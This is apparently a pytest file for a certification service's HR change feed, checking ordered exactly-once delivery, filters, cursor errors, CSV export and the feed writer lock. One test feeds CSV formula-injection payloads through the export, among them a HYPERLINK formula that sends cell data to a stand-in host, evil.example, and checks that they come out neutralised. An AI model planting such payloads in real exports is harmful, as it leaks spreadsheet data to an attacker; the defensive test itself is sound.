"""The HR feed: exactly once and in order while changes are being written, filters, limits,
cursors, and the CSV export of the same query."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import random
import uuid

import asyncpg
import pytest

from services.certification.store import certificates as store
from services.common.auth import Principal
from services.common.pagination import encode_cursor
from tests.certification.conftest import Service, running
from tests.support import Keys

SERVICE = "certification"


async def read_feed(svc: Service, cursor: str | None = None, **params: object) -> dict:
    q = {k: v for k, v in params.items() if v is not None}
    if cursor:
        q["cursor"] = cursor
    r = await svc.client.get("/v1/certificates", params=q, headers=svc.h("hr", sub="hr-system-1"))
    assert r.status_code == 200, r.text
    return dict(r.json())


async def drain(svc: Service, cursor: str | None, limit: int = 100) -> tuple[list[dict], str]:
    items: list[dict] = []
    while True:
        page = await read_feed(svc, cursor, limit=limit)
        items += page["items"]
        cursor = page["next_cursor"]
        if not page["has_more"]:
            return items, cursor


async def test_a_reader_never_skips_a_change_that_commits_late(svc: Service) -> None:
    """An in-flight change with a lower sequence value holds back later ones until it commits."""
    x = (await svc.issue("official-x", level=1)).json()
    items, cursor = await drain(svc, None)
    assert [i["serial"] for i in items] == [x["serial"]]
    issuer = svc.app.state.issuer
    admin = Principal(sub="admin-slow", roles=frozenset({"admin"}))
    async with svc.app.state.sessionmaker() as slow:
        await store.change_status(slow, issuer, admin, __import__("uuid").UUID(x["id"]), "suspend", "slow")
        # The slow transaction holds a change row (lower sequence value), not yet committed.
        fast = asyncio.create_task(svc.issue("official-y", level=1))
        await asyncio.sleep(0.5)
        page = await read_feed(svc, cursor)
        assert page["items"] == [] and page["next_cursor"] == cursor
        await slow.commit()
    y = (await fast).json()
    items, cursor = await drain(svc, cursor)
    assert [(i["event"], i["serial"]) for i in items] == [("suspended", x["serial"]), ("issued", y["serial"])]
    assert items[0]["seq"] < items[1]["seq"]
    assert (await read_feed(svc, cursor))["items"] == []


async def test_exactly_once_in_order_under_concurrent_writers(svc: Service) -> None:
    done = asyncio.Event()
    seen: list[dict] = []

    async def reader() -> None:
        cursor = None
        while True:
            finished = done.is_set()
            page = await read_feed(svc, cursor, limit=7)
            seen.extend(page["items"])
            cursor = page["next_cursor"]
            if finished and not page["has_more"]:
                return
            if not page["items"]:
                await asyncio.sleep(0.01)

    async def writer(n: int) -> None:
        for i in range(6):
            cert = (await svc.issue(f"w{n}-{i}", level=i % 5)).json()
            if random.random() < 0.5:
                r = await svc.client.post(
                    f"/v1/admin/certificates/{cert['id']}/revoke", json={"reason": "r"}, headers=svc.h("admin")
                )
                assert r.status_code == 200

    task = asyncio.create_task(reader())
    await asyncio.gather(*(writer(n) for n in range(6)))
    done.set()
    await asyncio.wait_for(task, 30)
    seqs = [i["seq"] for i in seen]
    assert len(seqs) == len(set(seqs)), "a change was delivered twice"
    conn = await svc.db()
    try:
        feed_order = [r["seq"] for r in await conn.fetch("SELECT seq FROM change ORDER BY xid, seq")]
    finally:
        await conn.close()
    assert seqs == feed_order and len(feed_order) >= 36, "a change was missed or out of order"
    # Causal order per certificate: its issue comes before its revocation.
    events: dict[str, list[str]] = {}
    for item in seen:
        events.setdefault(item["certificate_id"], []).append(item["event"])
    assert all(e in (["issued"], ["issued", "revoked"]) for e in events.values())


async def test_filters_limits_and_cursor_errors(svc: Service) -> None:
    a = (await svc.issue("f-a", level=0, org="SEOUL-01")).json()
    b = (await svc.issue("f-b", level=2, org="BUSAN-02")).json()
    c = (await svc.issue("f-c", level=2, org="SEOUL-01")).json()
    r = await svc.client.post(f"/v1/admin/certificates/{c['id']}/revoke", json={"reason": "x"}, headers=svc.h("admin"))
    assert r.status_code == 200
    by_level = (await read_feed(svc, level=2))["items"]
    assert [(i["serial"], i["event"]) for i in by_level] == [
        (b["serial"], "issued"),
        (c["serial"], "issued"),
        (c["serial"], "revoked"),
    ]
    assert [i["serial"] for i in (await read_feed(svc, status="revoked"))["items"]] == [c["serial"]]
    assert {i["serial"] for i in (await read_feed(svc, org="SEOUL-01"))["items"]} == {a["serial"], c["serial"]}
    assert (await read_feed(svc, issued_from="2000-01-01T00:00:00Z", issued_to="2001-01-01T00:00:00Z"))["items"] == []
    assert len((await read_feed(svc, issued_from="2000-01-01T00:00:00Z"))["items"]) == 4
    item = by_level[0]
    assert item["url"].endswith(f"/v1/certificates/{b['id']}") and item["official_name"] == "김민수"
    record = await svc.client.get(item["url"].removeprefix(svc.base), headers=svc.h("hr"))
    assert record.status_code == 200 and record.json()["serial"] == b["serial"]

    first = await read_feed(svc, limit=1)
    assert len(first["items"]) == 1 and first["has_more"] is True
    second = await read_feed(svc, first["next_cursor"], limit=500)
    assert [i["seq"] for i in second["items"]] == [2, 3, 4] and second["has_more"] is False

    h = svc.h("hr")
    for params in (
        {"limit": 0},
        {"limit": 501},
        {"level": 7},
        {"status": "lost"},
        {"issued_from": "2026-01-01T00:00:00"},
        {"cursor": "!!!not-ours"},
        {"cursor": encode_cursor([1, 2])},
        {"cursor": encode_cursor({"seq": -4})},
        {"issued_from": "2026-02-01T00:00:00Z", "issued_to": "2026-01-01T00:00:00Z"},
    ):
        r = await svc.client.get("/v1/certificates", params=params, headers=h)
        assert r.status_code == 400, (params, r.text)
        assert r.headers["content-type"].startswith("application/problem+json")
    assert (await svc.client.get("/v1/certificates", headers=svc.h("learner"))).status_code == 403
    assert (await svc.client.get("/v1/certificates", headers=svc.h("admin"))).status_code == 403


async def test_csv_export_streams_the_same_query(svc: Service) -> None:
    certs = [(await svc.issue(f"csv-{i}", level=i % 2, name=f"Name, {i}")).json() for i in range(5)]
    r = await svc.client.post(
        f"/v1/admin/certificates/{certs[1]['id']}/suspend",
        json={"reason": 'a, "quoted" reason'},
        headers=svc.h("admin"),
    )
    assert r.status_code == 200
    r = await svc.client.get("/v1/certificates/export.csv", headers=svc.h("hr"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    feed = (await read_feed(svc, limit=500))["items"]
    assert [int(x["seq"]) for x in rows] == [i["seq"] for i in feed]
    assert rows[-1]["reason"] == 'a, "quoted" reason' and rows[0]["official_name"] == "Name, 0"
    level1 = list(
        csv.DictReader(
            io.StringIO(
                (await svc.client.get("/v1/certificates/export.csv", params={"level": 1}, headers=svc.h("hr"))).text
            )
        )
    )
    assert {x["level"] for x in level1} == {"1"} and len(level1) == 3
    after = (await read_feed(svc, limit=4))["next_cursor"]
    tail = list(
        csv.DictReader(
            io.StringIO(
                (
                    await svc.client.get("/v1/certificates/export.csv", params={"cursor": after}, headers=svc.h("hr"))
                ).text
            )
        )
    )
    assert [int(x["seq"]) for x in tail] == [5, 6]
    empty = await svc.client.get("/v1/certificates/export.csv", params={"level": 4}, headers=svc.h("hr"))
    assert empty.text.strip().split(",")[0] == "seq" and len(empty.text.strip().splitlines()) == 1
    assert (await svc.client.get("/v1/certificates/export.csv", headers=svc.h("learner"))).status_code == 403


async def test_export_neutralises_formula_cells_and_writes_crlf(svc: Service) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r@x"]
    for i, name in enumerate(hostile):
        assert (await svc.issue(f"csv-{i}", level=0, name=name, org="=ORG")).status_code == 201
    r = await svc.client.get("/v1/certificates/export.csv", headers=svc.h("hr"))
    body = r.content.decode()
    assert body.count("\r\n") == len(hostile) + 1 and "\n" not in body.replace("\r\n", "").replace('\r"', "")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["official_name"] for row in rows] == ["'" + name for name in hostile]
    assert {row["org"] for row in rows} == {"'=ORG"}


async def test_an_unrelated_open_transaction_does_not_hold_the_feed_back(svc: Service) -> None:
    """An admin's psql session that wrote something and sits idle in its transaction holds no
    feed writer lock: the feed keeps serving new changes."""
    admin = await svc.db()
    try:
        tx = admin.transaction()
        await tx.start()
        await admin.execute("UPDATE signing_key SET created_at = created_at")  # it now has a transaction id
        assert await admin.fetchval("SELECT pg_current_xact_id_if_assigned() IS NOT NULL")
        y = (await svc.issue("official-after-psql", level=0)).json()
        items, _ = await drain(svc, None)
        assert [i["serial"] for i in items] == [y["serial"]]
        await tx.rollback()
    finally:
        await admin.close()


async def test_change_rows_need_the_feed_writer_lock(svc: Service) -> None:
    conn = await svc.db()
    try:
        with pytest.raises(asyncpg.RaiseError, match="feed writer lock"):
            await conn.execute(
                "INSERT INTO change (xid, event, certificate_id, serial, official_id, official_name, org, level,"
                " status, issued_at, changed_at) VALUES (pg_current_xact_id()::text::bigint, 'issued',"
                " gen_random_uuid(), 'S', 'o', 'n', '', 0, 'active', now(), now())"
            )
    finally:
        await conn.close()


async def test_a_stalled_feed_writer_is_ended_after_the_bound(database_url: str, keys: Keys) -> None:
    """A writer that holds the feed writer lock and stalls holds the feed back only until the server
    ends it (feed_writer_timeout_seconds); its change is rolled back, later changes are served."""
    async with running(database_url, keys, feed_writer_timeout_seconds=1.0) as svc:
        x = (await svc.issue("official-stall", level=1)).json()
        _, cursor = await drain(svc, None)
        admin = Principal(sub="admin-stall", roles=frozenset({"admin"}))
        stalled = svc.app.state.sessionmaker()
        try:
            await store.change_status(stalled, svc.app.state.issuer, admin, uuid.UUID(x["id"]), "suspend", "stall")
            y = (await svc.issue("official-next", level=1)).json()
            assert (await read_feed(svc, cursor))["items"] == []  # held back while the writer is alive
            for _ in range(600):  # the server ends the idle writer after about a second
                items = (await read_feed(svc, cursor))["items"]
                if items:
                    break
                await asyncio.sleep(0.05)
            assert [(i["event"], i["serial"]) for i in items] == [("issued", y["serial"])]
        finally:
            with contextlib.suppress(Exception):  # its connection was ended by the server
                await stalled.close()
        verify = (await svc.client.get(f"/v1/verify/{x['serial']}")).json()
        assert verify["status"] == "valid"  # the stalled suspension never happened
